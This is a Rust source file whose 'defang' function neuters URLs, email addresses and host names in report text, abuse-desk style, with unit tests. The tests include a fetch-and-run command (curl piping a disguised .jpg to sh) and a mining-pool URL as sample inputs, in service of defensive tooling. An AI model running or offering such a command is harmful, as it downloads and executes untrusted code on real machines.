//! Addresses that nobody can follow by accident.
//!
//! The convention of abuse desks: `hxxp` for `http`, brackets around what makes a word an address
//! (`[://]`, `[.]`, `[@]`). Mail programs make links of any word with a known ending, and `.sh`,
//! `.py` and `.zip` are such endings, so every dot inside a word is taken apart but for those of
//! file paths, which start with a slash.

use lazaret_model::one_line;

/// `text`, neutral, at most `most` characters before it is taken apart, without anything that a
/// program would make a link of.
pub fn defang(text: &str, most: usize) -> String {
    let text = one_line(text, most);
    let mut out = String::with_capacity(text.len() + 16);
    let mut word = String::new();
    for c in text.chars() {
        if c.is_whitespace() || "\"'`()<>,;|=!{}".contains(c) {
            out.push_str(&one_word(&word));
            word.clear();
            out.push(c);
        } else {
            word.push(c);
        }
    }
    out.push_str(&one_word(&word));
    out
}

/// The dot, and those that programs take for it in names of hosts (RFC 3490, 3.1).
const DOTS: [char; 4] = ['.', '\u{3002}', '\u{ff0e}', '\u{ff61}'];

fn one_word(word: &str) -> String {
    let path = ["/", "./", "../"].iter().any(|start| word.starts_with(start));
    if path && !word.contains("//") && !word.contains('@') && !word.to_ascii_lowercase().contains("www.") {
        return word.to_owned();
    }
    let chars: Vec<char> = word.chars().collect();
    let mut out = String::with_capacity(word.len() + 8);
    let mut at = 0;
    while at < chars.len() {
        let rest = &chars[at..];
        if starts(rest, "http") {
            let loud = rest[1].is_ascii_uppercase();
            out.push(rest[0]);
            out.push_str(if loud { "XX" } else { "xx" });
            out.push(rest[3]);
            at += 4;
        } else if starts(rest, "://") {
            out.push_str("[://]");
            at += 3;
        } else if chars[at] == '@' {
            out.push_str("[@]");
            at += 1;
        } else if DOTS.contains(&chars[at]) && inside(&chars, at) {
            out.push_str("[.]");
            at += 1;
        } else if starts(rest, "mailto:") {
            out.push_str("mailto[:]");
            at += 7;
        } else {
            out.push(chars[at]);
            at += 1;
        }
    }
    out
}

fn starts(chars: &[char], word: &str) -> bool {
    let mut at = 0;
    word.chars().all(|c| {
        let same = chars.get(at).is_some_and(|d| d.eq_ignore_ascii_case(&c));
        at += 1;
        same
    })
}

/// A dot between what names of hosts are made of, which may be signs of any script, unless it is that of
/// a decimal number.
fn inside(chars: &[char], dot: usize) -> bool {
    let is = |at: Option<usize>| {
        let c = at.and_then(|at| chars.get(at));
        c.is_some_and(|c| c.is_alphanumeric() || "-_".contains(*c) || !c.is_ascii() && *c != '…')
    };
    if !is(dot.checked_sub(1)) || !is(Some(dot + 1)) {
        return false;
    }
    let numeric = chars.iter().all(|c| c.is_ascii_digit() || *c == '.');
    !(numeric && chars.iter().filter(|c| **c == '.').count() == 1)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_word_stays_an_address() {
        for (text, shown) in [
            (
                "curl http://203.0.113.66:8220/logo3.jpg | sh",
                "curl hxxp[://]203[.]0[.]113[.]66:8220/logo3[.]jpg | sh",
            ),
            ("stratum+tcp://pool.example.test:1", "stratum+tcp[://]pool[.]example[.]test:1"),
            ("HTTPS://A.example/", "HXXPS[://]A[.]example/"),
            ("ops@a.example www.b.example", "ops[@]a[.]example www[.]b[.]example"),
            ("(run.sh) mailto:x", "(run[.]sh) mailto[:]x"),
            ("/usr/local/bin/run.sh version 5.7", "/usr/local/bin/run.sh version 5.7"),
            ("//evil.example/x", "//evil[.]example/x"),
            ("url=http://a.example", "url=hxxp[://]a[.]example"),
            ("evil。example a．example b｡example", "evil[.]example a[.]example b[.]example"),
            ("💩.example a-.example", "💩[.]example a-[.]example"),
        ] {
            assert_eq!(defang(text, 200), shown);
        }
        assert_eq!(defang("a\u{1b}b", 10), "a\\x1bb");
    }
}
